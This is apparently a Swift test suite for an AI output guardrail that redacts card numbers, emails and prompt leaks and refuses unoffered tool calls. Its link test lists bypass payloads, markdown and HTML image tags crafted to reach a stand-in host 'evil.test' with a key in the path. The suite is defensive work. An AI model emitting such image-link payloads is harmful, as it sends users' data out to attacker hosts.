import Testing

@testable import Guardrails

@Suite("Ways round the filter of an answer")
struct OutputBypassTests {
    private static let rules = Result {
        try OutputRules(
            OutputPolicy(
                entities: [.creditCard: .redact, .emailAddress: .redact],
                secrets: .redact,
                links: .init(allowedHosts: ["docs.example.com", "docs.example"]),
                promptLeak: .redact
            )
        )
    }

    private func run(
        _ body: String,
        _ dialect: AnswerDialect,
        _ format: AnswerFormat = .events,
        facts: RequestFacts = RequestFacts(),
        rules: OutputRules? = nil
    ) throws -> (output: String, refusal: AnswerRefusal?) {
        var filter = OutputFilter(try rules ?? Self.rules.get(), dialect: dialect, format: format, facts: facts)
        var output: [UInt8] = []
        for step in [filter.feed(Array(body.utf8)), filter.finish()] {
            switch step {
            case .bytes(let bytes): output += bytes
            case .end(let bytes, let refusal):
                return (String(decoding: output + bytes, as: UTF8.self), refusal)
            }
        }
        return (String(decoding: output, as: UTF8.self), nil)
    }

    private func events(_ data: [String]) -> String { data.map { "data: \($0)\n\n" }.joined() }

    private static let offers = RequestFacts(
        refusesToolCall: { tool, arguments in
            if tool == "mcp:good" { return nil }
            if tool != "mail" { return "`\(tool)` is not offered" }
            return arguments == Array("{}".utf8) ? "`to` is missing" : nil
        },
        refusesTool: { ["mail", "mcp:good"].contains($0) ? nil : "`\($0)` is not offered" }
    )

    @Test(
        "What a browser takes for another host is not an allowed one",
        arguments: [
            "![x](https://docs.example:p@evil.test/KEY)", "![x](http:/evil.test)", "![x](http:evil.test)",
            "<img src=\"\\\\evil.test\\KEY\">", "![x](/\\evil.test)", "![x](https:&#47;&#47;evil.test)",
            "<img src=\"https:&#47;&#47;evil.test\">", "<img src='&#47;&#47;evil.test'>", "<a href=http:evil.test>",
            "<img src=\"/\t/evil.test\">", "![x](https\\://evil.test)", "![x](<https://docs.example @evil.test>)",
            "<img src=\"https://docs.example'@evil.test\">", "![x](https://docs.example'@evil.test)",
            "<img alt=\">\" src=\"//evil.test\">", "<img src=\"https://docs.example:8@evil.test\">",
        ]
    )
    func links(_ text: String) throws {
        var filter = TextFilter(try Self.rules.get())
        let output = String(decoding: filter.feed(Array(text.utf8)) + filter.finish(), as: UTF8.self)
        #expect(!output.contains("evil.test"))
    }

    @Test(
        "What is allowed goes out",
        arguments: [
            "![x](https://docs.example:8443/a?b=1&c=2)", "<a href=\"https://docs.example.com/x?a=1&amp;b=2\">x</a>",
            "[a](/local/page)", "<img alt=\"Tom &amp; Jerry\" src=\"/a.png\">", "[a](<https://docs.example>)",
        ]
    )
    func allowedLinks(_ text: String) throws {
        var filter = TextFilter(try Self.rules.get())
        #expect(String(decoding: filter.feed(Array(text.utf8)) + filter.finish(), as: UTF8.self) == text)
    }

    @Test("A streamed call without arguments is judged as one with none")
    func callWithoutArguments() throws {
        func body(_ name: String, _ rest: String) -> String {
            events([
                #"{"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"t","function":{"name":"\#(name)"\#(rest)}}]}}]}"#,
                #"{"choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}"#, "[DONE]",
            ])
        }
        for rest in ["", #","arguments":"""#] {
            #expect(try run(body("mail", rest), .openAIChat, facts: Self.offers).refusal?.message == "`to` is missing")
            #expect(try run(body("rm", rest), .openAIChat, facts: Self.offers).refusal?.code == .toolCall)
            #expect(try !run(body("rm", rest), .openAIChat, facts: Self.offers).output.contains("rm"))
        }
        #expect(try run(body("mail", #","arguments":"{\"to\":1}""#), .openAIChat, facts: Self.offers).refusal == nil)
    }

    @Test("Anthropic's calls are judged when they begin, with their input or without")
    func anthropicCalls() throws {
        func body(_ type: String, _ rest: String) -> String {
            events([
                #"{"type":"content_block_start","index":0,"content_block":{"type":"\#(type)","id":"t",\#(rest)}}"#,
                #"{"type":"content_block_stop","index":0}"#,
            ])
        }
        func refusal(_ type: String, _ rest: String) throws -> AnswerRefusal? {
            try run(body(type, rest), .anthropicMessages, facts: Self.offers).refusal
        }
        #expect(try refusal("tool_use", #""name":"rm","input":{"a":1}"#)?.code == .toolCall)
        #expect(try refusal("tool_use", #""name":"mail","input":{}"#)?.message == "`to` is missing")
        #expect(try refusal("tool_use", #""name":"mail","input":{"to":1}"#) == nil)
        #expect(try refusal("mcp_tool_use", #""name":"x","server_name":"bad","input":{}"#)?.code == .toolCall)
        #expect(try refusal("mcp_tool_use", #""name":"x","server_name":"good","input":{}"#) == nil)
        let whole = #"{"content":[{"type":"mcp_tool_use","id":"m","name":"x","server_name":"bad","input":{}}]}"#
        #expect(try run(whole, .anthropicMessages, .json, facts: Self.offers).refusal?.code == .toolCall)
    }

    @Test("Calls of custom tools are judged by their names")
    func customCalls() throws {
        let chat = #"{"choices":[{"message":{"tool_calls":[{"type":"custom","custom":{"name":"rm","input":"x"}}]}}]}"#
        #expect(try run(chat, .openAIChat, .json, facts: Self.offers).refusal?.code == .toolCall)
        #expect(
            try run(chat.replacing("\"rm\"", with: "\"mail\""), .openAIChat, .json, facts: Self.offers).refusal == nil
        )
        let responses = #"{"output":[{"type":"custom_tool_call","call_id":"c","name":"rm","input":"x"}]}"#
        #expect(try run(responses, .openAIResponses, .json, facts: Self.offers).refusal?.code == .toolCall)
    }

    @Test("Calls of Responses are judged by the item that they belong to")
    func responsesCalls() throws {
        func body(_ item: String, _ kind: String, _ arguments: String) -> String {
            events([
                #"{"type":"response.output_item.added","output_index":0,"item":{"id":"i",\#(item),"arguments":""}}"#,
                #"{"type":"response.\#(kind)_arguments.delta","item_id":"i","output_index":0,"delta":"\#(arguments)"}"#,
                #"{"type":"response.\#(kind)_arguments.done","item_id":"i","output_index":0,"arguments":"\#(arguments)"}"#,
                #"{"type":"response.output_item.done","output_index":0,"item":{"id":"i",\#(item),"arguments":"\#(arguments)"}}"#,
            ])
        }
        func refusal(_ item: String, _ kind: String, _ arguments: String) throws -> AnswerRefusal? {
            try run(body(item, kind, arguments), .openAIResponses, facts: Self.offers).refusal
        }
        let mail = #""type":"function_call","name":"mail""#
        #expect(try refusal(mail, "function_call", #"{\"to\":1}"#) == nil)
        #expect(try refusal(mail, "function_call", "{}")?.message == "`to` is missing")
        #expect(try refusal(#""type":"function_call","name":"rm""#, "function_call", "{}")?.code == .toolCall)
        #expect(try refusal(#""type":"mcp_call","name":"x","server_label":"good""#, "mcp_call", "{}") == nil)
        #expect(try refusal(#""type":"mcp_call","name":"x","server_label":"bad""#, "mcp_call", "{}")?.code == .toolCall)
    }

    @Test("Lines of events that are not data carry no text")
    func lines() throws {
        let card = "4111 1111 1111 1111"
        let body = ": \(card)\nx: \(card)\nevent: \(card)\nid: \(card)\nretry: \(card)\n\(card)\n\n"
        #expect(try run(body, .plain).output == ":\n\n")
        let good = "event: message\nid: a-1\nretry: 500\ndata: {}\n\n"
        #expect(try run(good, .plain).output == good)
    }

    @Test("What is cut over two events is one text, whatever its key")
    func pieces() throws {
        let lines = try run("{\"chunk\":\"4111 1111 \"}\n{\"chunk\":\"1111 1111\"}\n", .plain, .lines)
        #expect(lines.output.contains("[CREDIT_CARD]") && !lines.output.contains("1111"))
        for form in [#"{"audio":{"transcript":"?"}}"#, #"{"tool_calls":[{"index":0,"custom":{"input":"?"}}]}"#] {
            let body = events(
                ["4111 1111 ", "1111 1111"].map {
                    #"{"choices":[{"index":0,"delta":"# + form.replacing("?", with: $0) + "}]}"
                } + ["[DONE]"]
            )
            let chat = try run(body, .openAIChat)
            #expect(chat.output.contains("[CREDIT_CARD]") && !chat.output.contains("1111"))
        }
        let kserve = events(
            ["4111 1111 ", "1111 1111"].map { #"{"outputs":[{"name":"text","datatype":"BYTES","data":["\#($0)"]}]}"# }
        )
        #expect(try !run(kserve, .plain).output.contains("1111"))
        #expect(try !run(events(["4111", "1111", "1111", "1111"]), .plain).output.contains("1111"))
    }

    @Test("The event that carries what was held repeats none of the event's other texts")
    func heldBeside() throws {
        let body = events(
            [#"{"choices":[{"index":0,"delta":{"reasoning":"a@b.co is so! ","content":"4111 1111 "}}]}"#, "[DONE]"]
        )
        let result = try run(body, .openAIChat)
        #expect(!result.output.contains("a@b.co"))
        #expect(result.output.ranges(of: "is so!").count == 1)
    }

    @Test("Names and numbers that the API does not own are looked at")
    func structure() throws {
        let mcp = try run(
            #"{"jsonrpc":"2.0","id":1,"result":{"structuredContent":{"name":"a@b.co","card":4111111111111111}}}"#,
            .plain,
            .json
        )
        #expect(!mcp.output.contains("a@b.co") && !mcp.output.contains("4111"))
        let key = try run(#"{"result":{"structuredContent":{"4111 1111 1111 1111":1}}}"#, .plain, .json)
        #expect(key.refusal?.code == .blocked && !key.output.contains("4111"))
        let kserve = try run(#"{"predictions":[{"status":"4111 1111 1111 1111"}]}"#, .plain, .json)
        #expect(!kserve.output.contains("4111"))
        let call =
            #"{"id":"m","content":[{"type":"tool_use","name":"x","input":{"name":"a@b.co","n":4111111111111111}}]}"#
        let anthropic = try run(call, .anthropicMessages, .json)
        #expect(!anthropic.output.contains("a@b.co") && !anthropic.output.contains("4111"))
        let embeddings = #"{"object":"list","data":[{"embedding":[0.4111111111111111,-0.25]}],"created":1718345013}"#
        #expect(try run(embeddings, .plain, .json).output == embeddings)
    }

    @Test("Streams in which there is nothing to find go out as they came")
    func untouched() throws {
        let rules = try OutputRules(.standard)
        let lines =
            ["Hello, ", "there! ", "Yes? "].map {
                #"{"model":"llama3:8b","created_at":"2026-11-26T00:00:00.123456Z","response":"\#($0)","done":false}"#
                    + "\n"
            }.joined()
            + #"{"model":"llama3:8b","created_at":"2026-11-26T00:00:01Z","response":"","done":true,"done_reason":"stop","total_duration":5589157167,"eval_duration":1325948000}"#
            + "\n"
        #expect(try run(lines, .plain, .lines, rules: rules).output == lines)
        let mcp = events([
            #"{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"it is 4111 1"}],"isError":false}}"#,
            #"{"jsonrpc":"2.0","id":2,"result":{"content":[{"type":"text","text":"and so on"}]}}"#,
        ])
        #expect(try run(mcp, .plain, rules: rules).output == mcp)
        let anthropic = events([
            #"{"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","content":[],"model":"c","stop_reason":null}}"#,
            #"{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}"#,
            #"{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"so, "}}"#,
            #"{"type":"content_block_delta","index":0,"delta":{"type":"citations_delta","citation":{"type":"page","cited_text":"as it","title":"T"}}}"#,
            #"{"type":"content_block_stop","index":0}"#,
            #"{"type":"message_delta","delta":{"stop_reason":"stop_sequence","stop_sequence":"END"},"usage":{"output_tokens":12345678}}"#,
            #"{"type":"message_stop"}"#,
        ])
        #expect(try run(anthropic, .anthropicMessages, facts: Self.offers, rules: rules).output == anthropic)
    }

    @Test("Text of an encoding that is not read is refused")
    func charset() {
        for type in ["application/json; charset=utf-16le", "text/plain;charset=iso-8859-1", "text/plain; charset"] {
            #expect(AnswerFormat(contentType: type) == nil)
        }
        #expect(AnswerFormat(contentType: "application/json; charset=\"UTF-8\"") == .json)
        #expect(AnswerFormat(contentType: "text/plain; charset=us-ascii; x=y") == .text)
    }

    @Test("Where something was found is told without the answer's own names")
    func fields() {
        #expect(AnswerField.path("choices.0.delta.content") == "$.choices[0].delta.content")
        #expect(AnswerField.path("result.a@b.co.4111111111111111") == "$.result.*.*.*")
        #expect(AnswerField.path("delta.item_id=4111.output_index=0") == "$.delta")
        #expect(AnswerField.path(Array(repeating: "x", count: 1000).joined(separator: ".")).utf8.count < 40)
    }

    @Test("Where an answer is not as its schema has it is told without the answer's own names")
    func schemaFields() throws {
        #expect(AnswerField.path(pointer: "/choices/0/message/content") == "$.choices[0].message.content")
        #expect(AnswerField.path(pointer: "/a.choices/x~1y/text=1/") == "$.*.*.*.*")
        #expect(
            AnswerField.path(ofMember: #"result.content[0]["choices.text\"]"].text"#) == "$.result.content[0].*.text"
        )
        let spec = "dialect: json\nschema: { response: { type: object, additionalProperties: { type: string } } }"
        let schema = try #require(try GuardrailTests.guardrail(spec).responseSchema)
        for body in [
            #"{"jane@example.com":1}"#, #"{"jane@example.com":{"b":[1,"#,
            #"{"jane@example.com":1,"jane@example.com":2}"#,
        ] {
            let filter = try AnswerSchema(schema.schema).filter(
                for: ModelRequest(.json),
                status: 200,
                contentType: "application/json"
            )
            _ = filter.feed(Array(body.utf8))
            guard case .refused(_, let refusal) = filter.finish() else {
                Issue.record("the answer goes out")
                continue
            }
            #expect(refusal.path.hasPrefix("$") && !refusal.path.contains("jane"), "\(refusal)")
        }
    }

    @Test("A refusal tells the client nothing of the answer")
    func refusalPath() throws {
        let guardrail = try GuardrailTests.guardrail("dialect: json\noutput: { personalData: { action: block } }")
        let answers = OutputAnswers(try #require(guardrail.output))
        let filter = try answers.filter(for: ModelRequest(.json), status: 200, contentType: "application/json")
        _ = filter.feed(Array(#"{"result":{"jane":"4111 1111 1111 1111"}}"#.utf8))
        guard case .refused(let bytes, let refusal) = filter.finish() else {
            Issue.record("the answer goes out")
            return
        }
        #expect(bytes == [] && refusal.path == "" && refusal.range == nil)
        #expect(filter.notes.allSatisfy { $0.field == "$.result.*" })
        #expect(throws: DialectRefusal.self) {
            try answers.filter(
                for: ModelRequest(.json),
                status: 200,
                contentType: "application/json; charset=utf-16le"
            )
        }
    }

    @Test("A large answer and a system prompt that repeats itself are read in time", .timeLimit(.minutes(1)))
    func time() throws {
        let strings = (0..<20_000).map { #"{"index":\#($0),"text":"w"}"# }.joined(separator: ",")
        #expect(AnswerText(Array("[\(strings)]".utf8)).map { TextPlace.channel($0.values[39_999], $0) } == "19999.text")
        let numbers = Array(repeating: "0.0125", count: 200_000).joined(separator: ",")
        #expect(AnswerText(Array("[\(numbers)]".utf8)) != nil)
        let index = PromptIndex(systemPrompt: String(repeating: "a ", count: 32 << 10))
        var filter = TextFilter(try Self.rules.get(), prompt: index)
        let output =
            filter.feed(Array("say a a a a a a a a a a a a a a a a a a a a a a a a a a a a".utf8)) + filter.finish()
        #expect(String(decoding: output, as: UTF8.self) == "say [PROMPT]")
    }
}
